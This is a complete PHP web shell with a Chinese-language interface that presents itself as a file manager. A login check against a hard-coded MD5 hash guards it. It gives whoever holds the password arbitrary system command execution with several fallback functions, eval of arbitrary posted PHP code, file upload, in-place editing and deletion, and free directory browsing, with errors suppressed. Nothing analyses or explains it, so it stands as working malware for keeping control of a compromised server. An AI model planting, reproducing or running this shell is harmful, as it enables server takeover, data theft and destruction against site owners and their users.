<?php
@error_reporting(0);
@set_time_limit(0);
header("Content-Type: text/html; charset=gb2312");
$admin_hash = 'd014cea78b92b88b876659028b8aa512';
if (!isset($_COOKIE['ad']) || $_COOKIE['ad'] !== $admin_hash) {
    if (isset($_POST['pwd']) && md5($_POST['pwd']) === $admin_hash) {
        setcookie('ad', $admin_hash);
        header('Location: ?');
        exit;
    }
    echo '<form method="post">密码: <input type="password" name="pwd"><input type="submit" value="登录"></form>';
    exit;
}
function x_exec($c) {
    $r = '';
    if (function_exists('shell_exec')) { $r = shell_exec($c); }
    elseif (function_exists('passthru')) { ob_start(); passthru($c); $r = ob_get_clean(); }
    elseif (function_exists('system')) { ob_start(); system($c); $r = ob_get_clean(); }
    elseif (function_exists('popen')) { $h = popen($c, 'r'); while (!feof($h)) { $r .= fread($h, 1024); } pclose($h); }
    return $r;
}
$d = isset($_GET['d']) ? $_GET['d'] : getcwd();
$act = isset($_GET['act']) ? $_GET['act'] : 'list';
echo '<html><head><title>文件管理</title></head><body>';
echo '<a href="?act=list">文件列表</a> | <a href="?act=cmd">执行命令</a> | <a href="?act=php">执行PHP</a> | <a href="?act=up&d=' . urlencode($d) . '">上传文件</a><hr>';
switch ($act) {
case 'cmd':
    echo '<form method="post"><input name="c" size="80"><input type="submit" value="执行"></form>';
    if (isset($_POST['c'])) { echo '<pre>' . htmlspecialchars(x_exec($_POST['c'])) . '</pre>'; }
    break;
case 'php':
    echo '<form method="post"><textarea name="code" cols="100" rows="10"></textarea><input type="submit" value="执行"></form>';
    if (isset($_POST['code'])) { eval($_POST['code']); }
    break;
case 'up':
    echo '<form method="post" enctype="multipart/form-data"><input type="file" name="f"><input type="submit" value="上传"></form>';
    if (isset($_FILES['f'])) { echo move_uploaded_file($_FILES['f']['tmp_name'], $d . '/' . $_FILES['f']['name']) ? '上传成功' : '上传失败'; }
    break;
case 'edit':
    $f = $_GET['f'];
    if (isset($_POST['t'])) { file_put_contents($f, $_POST['t']); echo '保存成功'; }
    echo '<form method="post"><textarea name="t" cols="120" rows="30">' . htmlspecialchars(file_get_contents($f)) . '</textarea><br><input type="submit" value="保存"></form>';
    break;
case 'del':
    @unlink($_GET['f']);
    echo '已删除';
    break;
default:
    echo '当前目录: ' . htmlspecialchars($d) . '<br><table>';
    foreach (scandir($d) as $n) {
        $p = $d . '/' . $n;
        if (is_dir($p)) {
            echo '<tr><td>[目录] <a href="?d=' . urlencode(realpath($p)) . '">' . htmlspecialchars($n) . '</a></td></tr>';
        } else {
            echo '<tr><td>' . htmlspecialchars($n) . '</td><td>' . filesize($p) . '</td><td><a href="?act=edit&f=' . urlencode($p) . '">编辑</a> <a href="?act=del&f=' . urlencode($p) . '">删除</a></td></tr>';
        }
    }
    echo '</table>';
}
echo '</body></html>';
